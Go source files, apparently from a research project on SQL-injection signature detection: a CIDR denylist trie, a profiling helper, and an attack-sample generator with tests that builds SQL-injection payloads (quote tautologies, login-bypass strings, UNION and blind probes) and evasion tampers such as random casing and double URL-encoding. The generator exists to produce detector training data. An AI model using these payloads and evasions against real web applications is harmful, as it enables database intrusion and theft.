		return s.push(trieNode{hi: val.hi, lo: val.lo, bits: pb, terminal: true, child: [2]int32{-1, -1}})
	}
	n := s.nodes[ni]
	nv := u128{hi: n.hi, lo: n.lo}
	limit := pb
	if n.bits < limit {
		limit = n.bits
	}
	cl := commonPrefixLen(val, nv, limit)
	switch {
	case cl == n.bits && cl == pb:
		// Exactly this node: mark terminal (duplicate entries collapse).
		s.nodes[ni].terminal = true
		return ni
	case cl == n.bits:
		// The new prefix extends the node's prefix: descend.
		b := bitAt(val, cl)
		c := s.insert(n.child[b], val, pb)
		s.nodes[ni].child[b] = c
		return ni
	case cl == pb:
		// The new prefix is an ancestor of the node: it becomes the parent.
		p := s.push(trieNode{hi: val.hi, lo: val.lo, bits: pb, terminal: true, child: [2]int32{-1, -1}})
		s.nodes[p].child[bitAt(nv, cl)] = ni
		return p
	default:
		// Divergence below both: a fresh branch node at the common prefix.
		joint := maskBits(val, cl)
		p := s.push(trieNode{hi: joint.hi, lo: joint.lo, bits: cl, child: [2]int32{-1, -1}})
		leaf := s.push(trieNode{hi: val.hi, lo: val.lo, bits: pb, terminal: true, child: [2]int32{-1, -1}})
		s.nodes[p].child[bitAt(val, cl)] = leaf
		s.nodes[p].child[bitAt(nv, cl)] = ni
		return p
	}
}

// Contains reports whether any entry's prefix covers ip. One descent,
// bounded by the address width; allocation-free.
func (s *CIDRSet) Contains(ip netip.Addr) bool {
	if s == nil || len(s.nodes) == 0 || !ip.IsValid() {
		return false
	}
	v, width := ipValue(ip)
	ni := s.root4
	if width == 128 {
		ni = s.root6
	}
	for ni >= 0 {
		n := &s.nodes[ni]
		if n.bits > width || maskBits(v, n.bits) != (u128{hi: n.hi, lo: n.lo}) {
			return false
		}
		if n.terminal {
			return true
		}
		if n.bits == width {
			return false
		}
		ni = n.child[bitAt(v, n.bits)]
	}
	return false
}

// Len returns the number of entries inserted (duplicates included).
func (s *CIDRSet) Len() int {
	if s == nil {
		return 0
	}
	return s.n
}

// probeCIDRSet is the validate step of the denylist's validate-probe-swap
// reload: before a trie becomes the serving denylist its arena must pass
// a structural walk — every reachable node's prefix length inside the
// family's address width, child indices in bounds, child prefixes strict
// extensions of their parent — and it must answer a handful of
// structurally interesting lookups without panicking. The walk is what
// catches a corrupt node that lookups would silently *mis-answer* rather
// than panic on (a node with bits outside [0,width] matches everything);
// the lookups catch panics the walk's invariants don't model. A trie
// that cannot survive the probe never serves.
func probeCIDRSet(s *CIDRSet) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("admission: denylist probe panicked: %v", r)
		}
	}()
	if s != nil {
		if err := s.validate(s.root4, 32); err != nil {
			return fmt.Errorf("admission: denylist probe: v4 subtrie: %w", err)
		}
		if err := s.validate(s.root6, 128); err != nil {
			return fmt.Errorf("admission: denylist probe: v6 subtrie: %w", err)
		}
	}
	probes := []netip.Addr{
		netip.MustParseAddr("0.0.0.0"),
		netip.MustParseAddr("255.255.255.255"),
		netip.MustParseAddr("192.0.2.1"),
		netip.MustParseAddr("::"),
		netip.MustParseAddr("ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff"),
		netip.MustParseAddr("2001:db8::1"),
	}
	for _, ip := range probes {
		_ = s.Contains(ip)
	}
	return nil
}

// validate walks the subtrie rooted at ni checking the invariants Contains
// relies on. Depth is bounded by width (every child strictly lengthens the
// prefix), so recursion is safe; a cycle or stray index manifests as a
// bits violation or an out-of-range child before it can run away.
func (s *CIDRSet) validate(ni, width int32) error {
	if ni < 0 {
		return nil
	}
	if int(ni) >= len(s.nodes) {
		return fmt.Errorf("root index %d out of range (%d nodes)", ni, len(s.nodes))
	}
	n := s.nodes[ni]
	if n.bits < 0 || n.bits > width {
		return fmt.Errorf("node %d: prefix length %d outside [0,%d]", ni, n.bits, width)
	}
	return s.validateNode(ni, width)
}

func (s *CIDRSet) validateNode(ni, width int32) error {
	n := s.nodes[ni]
	nv := u128{hi: n.hi, lo: n.lo}
	if maskBits(nv, n.bits) != nv {
		return fmt.Errorf("node %d: value has bits set past its /%d prefix", ni, n.bits)
	}
	for b, ci := range n.child {
		if ci < 0 {
			continue
		}
		if int(ci) >= len(s.nodes) {
			return fmt.Errorf("node %d: child[%d] index %d out of range (%d nodes)", ni, b, ci, len(s.nodes))
		}
		c := s.nodes[ci]
		if c.bits <= n.bits || c.bits > width {
			return fmt.Errorf("node %d (/%d): child[%d] node %d has prefix length %d outside (%d,%d]", ni, n.bits, b, ci, c.bits, n.bits, width)
		}
		cv := u128{hi: c.hi, lo: c.lo}
		if maskBits(cv, n.bits) != nv {
			return fmt.Errorf("node %d: child[%d] node %d does not extend the parent prefix", ni, b, ci)
		}
		if bitAt(cv, n.bits) != int32(b) {
			return fmt.Errorf("node %d: child[%d] node %d sits under the wrong branch bit", ni, b, ci)
		}
		if err := s.validateNode(ci, width); err != nil {
			return err
		}
	}
	return nil
}

// ParseDenylist reads one CIDR or bare address per line — '#' comments
// and blank lines skipped — and builds the trie. Any malformed line fails
// the whole parse (reported by line number), because a silently dropped
// entry is an address quietly allowed through; the caller keeps its old
// trie on error.
func ParseDenylist(r io.Reader) (*CIDRSet, error) {
	var prefixes []netip.Prefix
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 64*1024), 1024*1024)
	lineno := 0
	for sc.Scan() {
		lineno++
		line := sc.Text()
		if i := strings.IndexByte(line, '#'); i >= 0 {
			line = line[:i]
		}
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		p, err := parseEntry(line)
		if err != nil {
			return nil, fmt.Errorf("admission: denylist line %d: %w", lineno, err)
		}
		prefixes = append(prefixes, p)
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("admission: denylist read: %w", err)
	}
	return BuildCIDRSet(prefixes)
}

// parseEntry parses one denylist entry: a CIDR, or a bare address that
// becomes a single-host prefix.
func parseEntry(s string) (netip.Prefix, error) {
	if strings.ContainsRune(s, '/') {
		p, err := netip.ParsePrefix(s)
		if err != nil {
			return netip.Prefix{}, fmt.Errorf("bad CIDR %q: %w", s, err)
		}
		return p, nil
	}
	ip, err := netip.ParseAddr(s)
	if err != nil {
		return netip.Prefix{}, fmt.Errorf("bad address %q: %w", s, err)
	}
	ip = ip.Unmap()
	return netip.PrefixFrom(ip, ip.BitLen()), nil
}

// LoadDenylistFile parses the file at path into a trie.
func LoadDenylistFile(path string) (*CIDRSet, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("admission: denylist: %w", err)
	}
	defer func() { _ = f.Close() }()
	return ParseDenylist(f)
}
