package profiling

import (
	"os"
	"path/filepath"
	"testing"
)

func TestStartDisabled(t *testing.T) {
	stop, err := Start("", "")
	if err != nil {
		t.Fatal(err)
	}
	if stop == nil {
		t.Fatal("stop must never be nil")
	}
	if err := stop(); err != nil {
		t.Fatal(err)
	}
}

func TestStartWritesProfiles(t *testing.T) {
	dir := t.TempDir()
	cpu := filepath.Join(dir, "cpu.pprof")
	mem := filepath.Join(dir, "mem.pprof")
	stop, err := Start(cpu, mem)
	if err != nil {
		t.Fatal(err)
	}
	// Burn a little CPU so the profile has something to sample.
	x := 0
	for i := 0; i < 1<<20; i++ {
		x += i * i
	}
	_ = x
	if err := stop(); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{cpu, mem} {
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatalf("profile %s missing: %v", p, err)
		}
		if fi.Size() == 0 {
			t.Fatalf("profile %s is empty", p)
		}
	}
}

func TestStartBadPath(t *testing.T) {
	stop, err := Start(filepath.Join(t.TempDir(), "no-such-dir", "cpu.pprof"), "")
	if err == nil {
		t.Fatal("want error for uncreatable profile path")
	}
	if stop == nil {
		t.Fatal("stop must never be nil, even on error")
	}
	if err := stop(); err != nil {
		t.Fatalf("stop after failed Start: %v", err)
	}
}
