// Package profiling wires runtime/pprof CPU and heap profiles into the
// command-line tools, so perf work can attach pprof evidence without each
// command reimplementing the start/stop/flush dance.
package profiling

import (
	"fmt"
	"os"
	"runtime"
	"runtime/pprof"
)

// Start begins the profiles selected by the (possibly empty) file paths:
// a CPU profile streamed to cpuPath for the life of the run, and a heap
// profile snapshotted to memPath when the returned stop function is
// called. Either path may be empty to skip that profile. stop is never
// nil and must be called exactly once — typically deferred — and returns
// the first error hit while flushing.
func Start(cpuPath, memPath string) (stop func() error, err error) {
	var cpuFile *os.File
	if cpuPath != "" {
		cpuFile, err = os.Create(cpuPath)
		if err != nil {
			return func() error { return nil }, fmt.Errorf("cpu profile: %w", err)
		}
		if err := pprof.StartCPUProfile(cpuFile); err != nil {
			// Best-effort cleanup: the StartCPUProfile error is the one
			// worth reporting, so the close error is explicitly dropped.
			_ = cpuFile.Close()
			return func() error { return nil }, fmt.Errorf("cpu profile: %w", err)
		}
	}
	stop = func() error {
		var firstErr error
		if cpuFile != nil {
			pprof.StopCPUProfile()
			if err := cpuFile.Close(); err != nil && firstErr == nil {
				firstErr = fmt.Errorf("cpu profile: %w", err)
			}
		}
		if memPath != "" {
			f, err := os.Create(memPath)
			if err != nil {
				if firstErr == nil {
					firstErr = fmt.Errorf("mem profile: %w", err)
				}
				return firstErr
			}
			runtime.GC() // materialize up-to-date allocation statistics
			if err := pprof.WriteHeapProfile(f); err != nil && firstErr == nil {
				firstErr = fmt.Errorf("mem profile: %w", err)
			}
			if err := f.Close(); err != nil && firstErr == nil {
				firstErr = fmt.Errorf("mem profile: %w", err)
			}
		}
		return firstErr
	}
	return stop, nil
}
