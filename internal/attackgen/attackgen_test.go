package attackgen

import (
	"math/rand"
	"strings"
	"testing"

	"psigene/internal/feature"
	"psigene/internal/normalize"
)

func allProfiles() []Profile {
	return []Profile{CrawlProfile(), SQLMapProfile(), ArachniProfile(), VegaProfile()}
}

func TestGeneratorDeterministic(t *testing.T) {
	for _, p := range allProfiles() {
		a := NewGenerator(p, 42).Samples(50)
		b := NewGenerator(p, 42).Samples(50)
		for i := range a {
			if a[i].Request.RawQuery != b[i].Request.RawQuery || a[i].Family != b[i].Family {
				t.Fatalf("%s: sample %d differs across identical seeds", p.Name, i)
			}
		}
	}
}

func TestGeneratorSeedsDiffer(t *testing.T) {
	p := CrawlProfile()
	a := NewGenerator(p, 1).Samples(20)
	b := NewGenerator(p, 2).Samples(20)
	same := 0
	for i := range a {
		if a[i].Request.RawQuery == b[i].Request.RawQuery {
			same++
		}
	}
	if same == len(a) {
		t.Fatal("different seeds produced identical corpora")
	}
}

func TestSamplesAreMaliciousAndTagged(t *testing.T) {
	for _, p := range allProfiles() {
		for _, s := range NewGenerator(p, 7).Samples(30) {
			if !s.Request.Malicious {
				t.Fatalf("%s: sample not marked malicious", p.Name)
			}
			if s.Request.Tool != p.Name {
				t.Fatalf("tool tag %q, want %q", s.Request.Tool, p.Name)
			}
			if s.Request.RawQuery == "" {
				t.Fatalf("%s: empty query", p.Name)
			}
		}
	}
}

func TestFamilyMixMatchesWeights(t *testing.T) {
	p := CrawlProfile()
	g := NewGenerator(p, 3)
	counts := map[Family]int{}
	const total = 6000
	for i := 0; i < total; i++ {
		counts[g.Sample().Family]++
	}
	for _, f := range Families {
		want := p.FamilyWeights[f]
		got := float64(counts[f]) / total
		if want > 0 && (got < want*0.6 || got > want*1.5) {
			t.Fatalf("family %s frequency %.3f, want ~%.3f", f, got, want)
		}
	}
}

func TestEveryFamilyStringIsNamed(t *testing.T) {
	for _, f := range Families {
		if strings.HasPrefix(f.String(), "Family(") {
			t.Fatalf("family %d has no name", int(f))
		}
	}
	if !strings.HasPrefix(Family(99).String(), "Family(") {
		t.Fatal("unknown family must fall back to numeric form")
	}
}

func TestPayloadsLightUpCatalogFeatures(t *testing.T) {
	// Every generated sample must trigger at least one catalog feature once
	// normalized — otherwise it could never be clustered or detected.
	ex, err := feature.NewExtractor(feature.Catalog())
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range allProfiles() {
		g := NewGenerator(p, 11)
		for i := 0; i < 200; i++ {
			s := g.Sample()
			v := ex.Vector(normalize.Normalize(s.Request.Payload()))
			nz := 0
			for _, x := range v {
				if x != 0 {
					nz++
				}
			}
			if nz == 0 {
				t.Fatalf("%s sample %q lights zero features", p.Name, s.Request.RawQuery)
			}
		}
	}
}

func TestToolsProduceDistinctCorpora(t *testing.T) {
	// The test tools must generate variants, not replicas of the crawl
	// corpus: normalized payload overlap should be low.
	crawlSet := map[string]bool{}
	for _, s := range NewGenerator(CrawlProfile(), 1).Samples(2000) {
		crawlSet[normalize.Normalize(s.Request.Payload())] = true
	}
	for _, p := range []Profile{SQLMapProfile(), ArachniProfile(), VegaProfile()} {
		overlap, total := 0, 500
		for _, s := range NewGenerator(p, 2).Samples(total) {
			if crawlSet[normalize.Normalize(s.Request.Payload())] {
				overlap++
			}
		}
		if frac := float64(overlap) / float64(total); frac > 0.30 {
			t.Fatalf("%s overlaps crawl corpus at %.0f%% — test sets must be variants", p.Name, frac*100)
		}
	}
}

func TestTamperHelpers(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	if got := spaceToComment("a b"); got != "a/**/b" {
		t.Fatalf("spaceToComment=%q", got)
	}
	if got := spaceToPlus("a b c"); got != "a+b+c" {
		t.Fatalf("spaceToPlus=%q", got)
	}
	enc := urlEncode("a'b c", false)
	if !strings.Contains(enc, "%27") || !strings.Contains(enc, "%20") {
		t.Fatalf("urlEncode=%q", enc)
	}
	full := urlEncode("ab1", true)
	if full != "ab1" {
		t.Fatalf("full urlEncode keeps alphanumerics: %q", full)
	}
	rc := randomCase(rng, "abcdefghijklmnop")
	if rc == "abcdefghijklmnop" {
		// Statistically near-impossible with 16 letters.
		t.Fatal("randomCase changed nothing")
	}
	if strings.ToLower(rc) != "abcdefghijklmnop" {
		t.Fatalf("randomCase altered letters: %q", rc)
	}
}

func TestTampersPreserveDecodedPayload(t *testing.T) {
	// URL-encoding tampers must decode back to the same lowercase payload.
	g := NewGenerator(CrawlProfile(), 5)
	for i := 0; i < 300; i++ {
		fam := g.profile.pickFamily(g.rng)
		raw := g.buildPayload(fam)
		tampered := g.applyTampers(raw)
		normRaw := normalize.Normalize(strings.ReplaceAll(raw, " ", "+"))
		normTampered := normalize.Normalize(tampered)
		// Comment obfuscation legitimately changes the string; skip those.
		if strings.Contains(normTampered, "/**/") && !strings.Contains(normRaw, "/**/") {
			continue
		}
		if normRaw != normTampered {
			t.Fatalf("tamper changed payload semantics:\nraw:      %q\ntampered: %q\nnorm raw: %q\nnorm tam: %q",
				raw, tampered, normRaw, normTampered)
		}
	}
}

func TestPickFamilyFallback(t *testing.T) {
	p := Profile{Name: "x", FamilyWeights: map[Family]float64{}}
	rng := rand.New(rand.NewSource(1))
	if f := p.pickFamily(rng); f != FamilyTautology {
		t.Fatalf("empty weights should fall back to tautology, got %v", f)
	}
}

func TestRequestsHelper(t *testing.T) {
	rs := NewGenerator(SQLMapProfile(), 9).Requests(10)
	if len(rs) != 10 {
		t.Fatalf("got %d requests", len(rs))
	}
	for _, r := range rs {
		if !r.Malicious || r.Tool != "sqlmap" {
			t.Fatalf("bad request %+v", r)
		}
	}
}
