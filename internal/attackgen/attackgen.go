// Package attackgen synthesizes SQL-injection attack samples.
//
// The paper's corpora are gated resources: ~30,000 samples crawled from
// public cybersecurity portals, plus test sets produced by running SQLmap,
// Arachni and Vega against a vulnerable web application. This package is
// the substitute (see DESIGN.md): seeded generators that produce the same
// family structure — tautologies, UNION-based extraction, error-based,
// boolean- and time-blind probing, stacked queries, file access and schema
// probing — with per-tool template pools, so that the test sets contain
// *variants* of the training families rather than replays, exactly the
// generalization the paper measures.
package attackgen

import (
	"fmt"
	"math/rand"
	"strings"

	"psigene/internal/httpx"
)

// Family classifies an attack sample by technique.
type Family int

// Attack families, following the taxonomy in SQLi reference documents.
const (
	FamilyTautology Family = iota + 1
	FamilyUnion
	FamilyErrorBased
	FamilyBooleanBlind
	FamilyTimeBlind
	FamilyStacked
	FamilyFileAccess
	FamilySchemaProbe
)

// Families lists every family in order.
var Families = []Family{
	FamilyTautology, FamilyUnion, FamilyErrorBased, FamilyBooleanBlind,
	FamilyTimeBlind, FamilyStacked, FamilyFileAccess, FamilySchemaProbe,
}

// String names the family.
func (f Family) String() string {
	switch f {
	case FamilyTautology:
		return "tautology"
	case FamilyUnion:
		return "union"
	case FamilyErrorBased:
		return "error-based"
	case FamilyBooleanBlind:
		return "boolean-blind"
	case FamilyTimeBlind:
		return "time-blind"
	case FamilyStacked:
		return "stacked"
	case FamilyFileAccess:
		return "file-access"
	case FamilySchemaProbe:
		return "schema-probe"
	default:
		return fmt.Sprintf("Family(%d)", int(f))
	}
}

// Sample is one generated attack request with its ground truth.
type Sample struct {
	Request httpx.Request
	Family  Family
}

// Generator produces attack samples for one tool profile, deterministically
// from its seed.
type Generator struct {
	rng     *rand.Rand
	profile Profile
}

// NewGenerator returns a generator for the given profile and seed.
func NewGenerator(p Profile, seed int64) *Generator {
	return &Generator{rng: rand.New(rand.NewSource(seed)), profile: p}
}

// Profile returns the generator's profile.
func (g *Generator) Profile() Profile { return g.profile }

// Sample draws one attack sample.
func (g *Generator) Sample() Sample {
	fam := g.profile.pickFamily(g.rng)
	payload := g.buildPayload(fam)
	for _, d := range g.profile.Dialect {
		payload = strings.ReplaceAll(payload, d.From, d.To)
	}
	payload = g.applyTampers(payload)

	path := pick(g.rng, g.profile.Paths)
	param := pick(g.rng, g.profile.Params)
	query := param + "=" + payload
	// Occasionally decorate with a benign leading or trailing parameter, as
	// real exploit URLs carry application parameters too.
	switch g.rng.Intn(4) {
	case 0:
		query = fmt.Sprintf("page=%d&", 1+g.rng.Intn(9)) + query
	case 1:
		query += fmt.Sprintf("&lang=%s", pick(g.rng, []string{"en", "de", "fr", "es"}))
	}
	return Sample{
		Request: httpx.Request{
			Method:    "GET",
			Host:      pick(g.rng, g.profile.Hosts),
			Path:      path,
			RawQuery:  query,
			Malicious: true,
			Tool:      g.profile.Name,
		},
		Family: fam,
	}
}

// Samples draws n attack samples.
func (g *Generator) Samples(n int) []Sample {
	out := make([]Sample, n)
	for i := range out {
		out[i] = g.Sample()
	}
	return out
}

// Requests draws n attack samples and returns just the HTTP requests.
func (g *Generator) Requests(n int) []httpx.Request {
	out := make([]httpx.Request, n)
	for i := range out {
		out[i] = g.Sample().Request
	}
	return out
}

func pick(rng *rand.Rand, xs []string) string { return xs[rng.Intn(len(xs))] }

// applyTampers applies the profile's obfuscation transforms with their
// configured probabilities.
func (g *Generator) applyTampers(p string) string {
	if g.rng.Float64() < g.profile.CaseObfProb {
		p = randomCase(g.rng, p)
	}
	if g.rng.Float64() < g.profile.CommentObfProb {
		p = spaceToComment(p)
	}
	switch {
	case g.rng.Float64() < g.profile.DoubleEncodeProb:
		p = urlEncode(urlEncode(p, false), false)
	case g.rng.Float64() < g.profile.EncodeProb:
		p = urlEncode(p, g.rng.Intn(2) == 0)
	default:
		p = spaceToPlus(p)
	}
	return p
}

// randomCase flips letter case randomly — the classic signature-evasion
// tamper.
func randomCase(rng *rand.Rand, s string) string {
	b := []byte(s)
	for i, c := range b {
		switch {
		case c >= 'a' && c <= 'z':
			if rng.Intn(2) == 0 {
				b[i] = c - 'a' + 'A'
			}
		case c >= 'A' && c <= 'Z':
			if rng.Intn(2) == 0 {
				b[i] = c - 'A' + 'a'
			}
		}
	}
	return string(b)
}

// spaceToComment replaces spaces with inline comments (SQLmap's
// space2comment tamper).
func spaceToComment(s string) string {
	return strings.ReplaceAll(s, " ", "/**/")
}

// spaceToPlus uses form encoding for spaces only.
func spaceToPlus(s string) string {
	return strings.ReplaceAll(s, " ", "+")
}

// urlEncode percent-encodes the payload: always the reserved characters,
// and when full is set every non-alphanumeric byte.
func urlEncode(s string, full bool) string {
	const hexDigits = "0123456789ABCDEF"
	var b strings.Builder
	b.Grow(len(s) * 2)
	for i := 0; i < len(s); i++ {
		c := s[i]
		alnum := c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
		reserved := strings.IndexByte(" '\"<>#%{}|\\^~[]`;/?:@=&+,", c) >= 0
		if alnum || (!full && !reserved) {
			b.WriteByte(c)
			continue
		}
		if c == ' ' {
			b.WriteString("%20")
			continue
		}
		b.WriteByte('%')
		b.WriteByte(hexDigits[c>>4])
		b.WriteByte(hexDigits[c&0xf])
	}
	return b.String()
}
