package attackgen

import "math/rand"

// Profile describes one attack-sample source: the crawled training corpus
// or one of the scanning tools used for the test sets. Different profiles
// draw from different (overlapping) template subsets and tamper mixes, so a
// signature set trained on the crawl corpus is evaluated on *variants*, as
// in the paper.
type Profile struct {
	// Name tags generated requests (sqlmap, arachni, vega, crawl).
	Name string
	// FamilyWeights gives the relative frequency of each attack family.
	FamilyWeights map[Family]float64
	// Templates restricts each family to a subset of its template pool
	// (indices into the master pool); empty means all.
	Templates map[Family][]int
	// Hosts, Paths, Params are the request-shape vocabulary.
	Hosts, Paths, Params []string
	// Tamper probabilities.
	EncodeProb, DoubleEncodeProb, CaseObfProb, CommentObfProb float64
	// Dialect rewrites payload literals into the tool's own conventions
	// (e.g. SQLmap separates concat fields with hex markers where crawled
	// exploits use char(58)); applied in order.
	Dialect []DialectRule
}

// DialectRule is one literal rewrite of a generated payload.
type DialectRule struct {
	From, To string
}

func (p Profile) pickFamily(rng *rand.Rand) Family {
	var total float64
	for _, w := range p.FamilyWeights {
		total += w
	}
	x := rng.Float64() * total
	for _, f := range Families {
		w := p.FamilyWeights[f]
		if w <= 0 {
			continue
		}
		if x < w {
			return f
		}
		x -= w
	}
	return FamilyTautology
}

var defaultHosts = []string{"victim.example.com", "shop.example.org", "forum.example.net"}

// CrawlProfile models the webcrawled training corpus: the broadest mix,
// every template, moderate obfuscation — the diversity of exploit-db,
// PacketStorm and OSVDB samples.
func CrawlProfile() Profile {
	return Profile{
		Name: "crawl",
		FamilyWeights: map[Family]float64{
			FamilyTautology:    0.22,
			FamilyUnion:        0.24,
			FamilyErrorBased:   0.12,
			FamilyBooleanBlind: 0.14,
			FamilyTimeBlind:    0.08,
			FamilyStacked:      0.06,
			FamilyFileAccess:   0.05,
			FamilySchemaProbe:  0.09,
		},
		Templates: nil, // all templates
		Hosts:     defaultHosts,
		Paths: []string{
			"/index.php", "/product.php", "/news.php", "/view.php",
			"/gallery/item.php", "/forum/topic.php", "/cart/add.php",
			"/components/com_rsgallery/rsgallery.php", "/mod/feedback/complete.php",
			"/addressbook/view.php", "/95/view/rtg.php",
		},
		Params:           []string{"id", "cat", "item", "uid", "page_id", "pid", "article", "q", "user", "prod"},
		EncodeProb:       0.45,
		DoubleEncodeProb: 0.05,
		CaseObfProb:      0.30,
		CommentObfProb:   0.12,
	}
}

// SQLMapProfile models SQLmap's scan traffic: heavy boolean/time blind
// probing with randomized integers, ORDER BY column probing, UNION and
// error-based extraction, and SQLmap's tamper habits.
func SQLMapProfile() Profile {
	return Profile{
		Name: "sqlmap",
		FamilyWeights: map[Family]float64{
			FamilyTautology:    0.08,
			FamilyUnion:        0.24,
			FamilyErrorBased:   0.16,
			FamilyBooleanBlind: 0.30,
			FamilyTimeBlind:    0.14,
			FamilyStacked:      0.02,
			FamilyFileAccess:   0.02,
			FamilySchemaProbe:  0.04,
		},
		Templates: map[Family][]int{
			FamilyTautology:    {1, 3},    // numeric + parenthesized probes
			FamilyUnion:        {0, 1, 4}, // union + order-by probes
			FamilyErrorBased:   {0, 1, 2}, // extractvalue/updatexml/floor-rand
			FamilyBooleanBlind: {0, 2, 4}, // AND n=n, ascii(), length()
			FamilyTimeBlind:    {0, 2, 3}, // sleep, conditional sleep, benchmark
			FamilySchemaProbe:  {0, 1},
		},
		Hosts:            []string{"wavsep.test.local"},
		Paths:            []string{"/wavsep/SInjection-Detection-Evaluation-GET/Case1.jsp", "/wavsep/Case2.jsp", "/wavsep/Case3.jsp"},
		Params:           []string{"id", "username", "msgid", "target", "transactionId"},
		EncodeProb:       0.55,
		DoubleEncodeProb: 0.03,
		CaseObfProb:      0.35,
		CommentObfProb:   0.20,
		Dialect: []DialectRule{
			{"char(58)", "0x3a"},
			{"0x7e", "0x716a7a7671"}, // sqlmap-style random marker
			{"concat(database()", "concat_ws(0x3a,database()"},
			{"-- ", "-- -"},
		},
	}
}

// ArachniProfile models the Arachni scanner: tautology/differential
// payloads and timing probes with its own template slice.
func ArachniProfile() Profile {
	return Profile{
		Name: "arachni",
		FamilyWeights: map[Family]float64{
			FamilyTautology:    0.34,
			FamilyUnion:        0.16,
			FamilyErrorBased:   0.10,
			FamilyBooleanBlind: 0.20,
			FamilyTimeBlind:    0.14,
			FamilyStacked:      0.02,
			FamilyFileAccess:   0.01,
			FamilySchemaProbe:  0.03,
		},
		Templates: map[Family][]int{
			FamilyTautology:    {0, 2, 4},
			FamilyUnion:        {1, 2},
			FamilyErrorBased:   {1, 3},
			FamilyBooleanBlind: {1, 3},
			FamilyTimeBlind:    {1, 3},
		},
		Hosts:            []string{"wavsep.test.local"},
		Paths:            []string{"/wavsep/Case1.jsp", "/wavsep/Case4.jsp", "/app/login.jsp"},
		Params:           []string{"id", "q", "name", "search"},
		EncodeProb:       0.40,
		DoubleEncodeProb: 0.02,
		CaseObfProb:      0.15,
		CommentObfProb:   0.05,
		Dialect: []DialectRule{
			{"char(58)", "char(0x3a)"},
			{"0x7e", "0x7c7c"},
			{"'hax'", "'arachni_text'"},
			{"information_schema.tables", "information_schema.tables t"},
		},
	}
}

// VegaProfile models the Vega scanner.
func VegaProfile() Profile {
	return Profile{
		Name: "vega",
		FamilyWeights: map[Family]float64{
			FamilyTautology:    0.30,
			FamilyUnion:        0.18,
			FamilyErrorBased:   0.08,
			FamilyBooleanBlind: 0.22,
			FamilyTimeBlind:    0.16,
			FamilyStacked:      0.03,
			FamilyFileAccess:   0.01,
			FamilySchemaProbe:  0.02,
		},
		Templates: map[Family][]int{
			FamilyTautology:    {0, 1, 3},
			FamilyUnion:        {0, 3},
			FamilyErrorBased:   {0, 3},
			FamilyBooleanBlind: {0, 1},
			FamilyTimeBlind:    {0, 4},
		},
		Hosts:            []string{"wavsep.test.local"},
		Paths:            []string{"/wavsep/Case2.jsp", "/wavsep/Case5.jsp", "/app/item.jsp"},
		Params:           []string{"id", "item", "key", "ref"},
		EncodeProb:       0.35,
		DoubleEncodeProb: 0.02,
		CaseObfProb:      0.10,
		CommentObfProb:   0.03,
		Dialect: []DialectRule{
			{"char(58)", "0x3a3a"},
			{"0x7e", "0x5e"},
			{"sleep(", "sleep(0+"},
			{"'hax'", "'vega123'"},
		},
	}
}
