package attackgen

import (
	"fmt"
	"math/rand"
)

// payloadFunc builds one randomized payload string (the parameter value of
// the malicious request, before tamper transforms).
type payloadFunc func(rng *rand.Rand) string

// Shared vocabulary for payload construction.
var (
	tableNames  = []string{"users", "members", "accounts", "admin", "login", "products", "orders", "customers", "wp_users", "jos_users"}
	columnNames = []string{"username", "password", "email", "id", "login", "passwd", "user_pass", "credit_card", "secret"}
	quoteStyles = []string{"'", "\""}
)

func n(rng *rand.Rand, max int) int { return 1 + rng.Intn(max) }

func commentTail(rng *rand.Rand) string {
	return pick(rng, []string{"-- ", "-- -", "#", "--+", ""})
}

// subquery returns a random scalar subquery used inside error-based and
// blind payloads.
func subquery(rng *rand.Rand) string {
	switch rng.Intn(6) {
	case 0:
		return "select user()"
	case 1:
		return "select version()"
	case 2:
		return "select database()"
	case 3:
		return fmt.Sprintf("select %s from %s limit %d,1", pick(rng, columnNames), pick(rng, tableNames), rng.Intn(5))
	case 4:
		return "select table_name from information_schema.tables limit 1"
	default:
		return fmt.Sprintf("select count(*) from %s", pick(rng, tableNames))
	}
}

// unionColumns renders a UNION SELECT column list of width w with an
// extraction expression in a random position.
func unionColumns(rng *rand.Rand, w int) string {
	kind := rng.Intn(3)
	exprPos := rng.Intn(w)
	cols := make([]string, w)
	for i := range cols {
		switch kind {
		case 0:
			cols[i] = fmt.Sprintf("%d", i+1)
		case 1:
			cols[i] = "null"
		default:
			if rng.Intn(2) == 0 {
				cols[i] = fmt.Sprintf("%d", i+1)
			} else {
				cols[i] = "null"
			}
		}
	}
	switch rng.Intn(4) {
	case 0:
		cols[exprPos] = "concat(database(),char(58),user(),char(58),version())"
	case 1:
		cols[exprPos] = fmt.Sprintf("concat(%s,0x3a,%s)", pick(rng, columnNames), pick(rng, columnNames))
	case 2:
		cols[exprPos] = "@@version"
	case 3:
		cols[exprPos] = fmt.Sprintf("group_concat(%s)", pick(rng, columnNames))
	}
	out := cols[0]
	for _, c := range cols[1:] {
		out += "," + c
	}
	return out
}

// Master template pools, indexed per family. Profiles choose a subset of
// indices, giving each tool its own generation style while all tools stay
// inside the same family taxonomy.
var familyTemplates = map[Family][]payloadFunc{
	FamilyTautology: {
		func(rng *rand.Rand) string { // 0: classic quote tautology
			q := pick(rng, quoteStyles)
			c := string(rune('a' + rng.Intn(26)))
			return fmt.Sprintf("%d%s or %s%s%s=%s%s %s", n(rng, 99), q, q, c, q, q, c, commentTail(rng))
		},
		func(rng *rand.Rand) string { // 1: numeric tautology
			v := n(rng, 9999)
			return fmt.Sprintf("%d or %d=%d", n(rng, 99), v, v)
		},
		func(rng *rand.Rand) string { // 2: login bypass
			return pick(rng, []string{"admin'-- ", "admin'#", "admin' or '1'='1", "' or ''='", "\" or \"\"=\""})
		},
		func(rng *rand.Rand) string { // 3: parenthesized tautology
			return fmt.Sprintf("%d') or ('%d'='%d", n(rng, 99), 7, 7)
		},
		func(rng *rand.Rand) string { // 4: LIKE/true variants
			return pick(rng, []string{"1' or 1 like 1-- ", "x' or true-- ", "%' or '1'='1", "1 or 2>1"})
		},
	},
	FamilyUnion: {
		func(rng *rand.Rand) string { // 0: plain union select
			all := ""
			if rng.Intn(2) == 0 {
				all = "all "
			}
